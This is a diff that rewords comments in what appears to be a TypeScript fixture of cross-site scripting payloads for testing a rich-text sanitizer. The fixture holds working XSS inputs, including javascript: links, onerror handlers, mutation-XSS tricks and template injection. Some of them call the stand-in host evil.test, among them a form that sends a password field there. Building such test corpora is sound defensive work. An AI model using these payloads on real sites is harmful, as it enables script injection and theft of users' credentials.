@@ -1,8 +1,8 @@
 const raw = String.raw;
 
 /**
- * Attempts of people to run a script in rich text, send a request or take over the page. A successful one calls `alert`
- * or sends a request to `evil.test`.
+ * Attacks by rich text: running a script, sending a request, taking over the page. A successful one calls `alert` or
+ * sends a request to `evil.test`.
  */
 const payloads: Record<string, string> = {
   // Scripts
@@ -84,7 +84,7 @@ const payloads: Record<string, string> = {
     '<a href="https://quran.com" href="javascript:alert(1)">x</a><a href="javascript:alert(1)" href="https://quran.com">x</a>',
   'address with a newline in its scheme': '<a href="ht\ntps://evil.test">x</a>',
   'ping and download': '<a href="https://quran.com" ping="https://evil.test/ping" download="x.exe">x</a>',
-  // Markup that changes when it is read again
+  // Markup that changes when it is parsed again
   'noscript with an image': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   'template with an image': '<template><img src=x onerror=alert(1)></template>',
   'declared shadow root': '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
@@ -130,7 +130,7 @@ const payloads: Record<string, string> = {
   'linked style sheet':
     '<link rel=stylesheet href="https://evil.test/x.css"><link rel=preload as=script href="https://evil.test/x.js">',
   'background of old': '<table background="https://evil.test/bg"><td background="javascript:alert(1)">x</table>',
-  // Taking the page over
+  // Taking over the page
   'form that asks':
     '<form action="https://evil.test"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
   'isindex of old': '<isindex type=image src=x onerror=alert(1)>',
@@ -165,7 +165,7 @@ const payloads: Record<string, string> = {
   'expressions of frameworks': '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %> [[7*7]]',
 };
 
-/** Each payload with a text that can be seen before it, so that it is a post like any other. */
+/** Each payload with a visible text before it, so that it is a post like any other. */
 export const xssCorpus: readonly { name: string; html: string }[] = Object.entries(payloads).map(([name, html]) => ({
   name,
   html: `<p>${name}</p>${html}`,
